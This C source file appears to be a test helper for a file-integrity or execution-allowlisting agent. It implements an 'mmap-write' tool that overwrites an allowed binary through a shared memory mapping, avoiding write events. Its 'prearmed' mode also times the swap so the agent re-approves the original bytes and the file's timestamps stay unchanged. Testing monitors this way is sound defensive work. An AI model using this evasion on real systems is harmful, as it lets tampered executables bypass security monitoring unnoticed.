/* Write the attacker's bytes into an allowed binary through a MAP_SHARED mapping, without
 * write(2): no FS_MODIFY event, no write hook.
 *
 *   mmap-write plain TARGET SOURCE      map, copy SOURCE's bytes over the head, unmap
 *   mmap-write prearmed TARGET SOURCE   map and dirty every page first (the same bytes
 *       written back: each write fault, and its ctime/mtime update, happens now), then
 *       open and close TARGET for writing once more: that close-after-write has the agent
 *       judge the file again, while its pages are already writable (an exec cannot: a
 *       writable mapping makes it ETXTBSY). Print EG-ARMED, wait for a line on stdin, then
 *       copy through the already-writable pages: no new fault, so TARGET's ctime, mtime and
 *       size do not change after the go line.
 *
 * SOURCE must not be larger than TARGET (a mapping cannot grow the file).
 */
#include <stdlib.h>
#include <sys/mman.h>

#include "eg.h"

static char *slurp(const char *path, size_t *len) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) eg_fail("open source");
    struct stat st;
    if (fstat(fd, &st) < 0) eg_fail("fstat source");
    char *buf = malloc((size_t)st.st_size);
    if (buf == NULL) eg_fail("malloc");
    for (size_t off = 0; off < (size_t)st.st_size;) {
        ssize_t n = read(fd, buf + off, (size_t)st.st_size - off);
        if (n <= 0) eg_fail("read source");
        off += (size_t)n;
    }
    close(fd);
    *len = (size_t)st.st_size;
    return buf;
}

int main(int argc, char **argv) {
    if (argc != 4) eg_usage("mmap-write plain|prearmed TARGET SOURCE");
    int armed = strcmp(argv[1], "prearmed") == 0;
    if (!armed && strcmp(argv[1], "plain") != 0) eg_usage("bad mode");
    size_t len;
    char *src = slurp(argv[3], &len);
    int fd = open(argv[2], O_RDWR);
    if (fd < 0) eg_fail("open target O_RDWR");
    struct stat st;
    if (fstat(fd, &st) < 0) eg_fail("fstat target");
    if (len > (size_t)st.st_size) {
        dprintf(2, "EG-ERROR source (%zu) larger than target (%lld)\n", len,
                (long long)st.st_size);
        return EG_EXIT_ERROR;
    }
    size_t size = (size_t)st.st_size;
    char *map = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (map == MAP_FAILED) eg_fail("mmap MAP_SHARED");
    if (armed) {
        long page = sysconf(_SC_PAGESIZE);
        for (size_t off = 0; off < size; off += (size_t)page) {
            volatile char *p = map + off;
            *p = *p; /* a write fault per page now; later writes need none */
        }
        close(fd); /* the mapping keeps the file open for writing */
        int again = open(argv[2], O_WRONLY);
        if (again < 0) eg_fail("reopen target O_WRONLY");
        close(again); /* FS_CLOSE_WRITE: judged again now, with the signed bytes */
        printf("EG-ARMED\n");
        fflush(stdout);
        char line[16];
        if (fgets(line, sizeof line, stdin) == NULL) {
            dprintf(2, "EG-ERROR no go line on stdin\n");
            return EG_EXIT_ERROR;
        }
    }
    memcpy(map, src, len);
    if (munmap(map, size) < 0) eg_fail("munmap");
    if (!armed) close(fd);
    printf("EG-WRITTEN %zu\n", len);
    return 0;
}
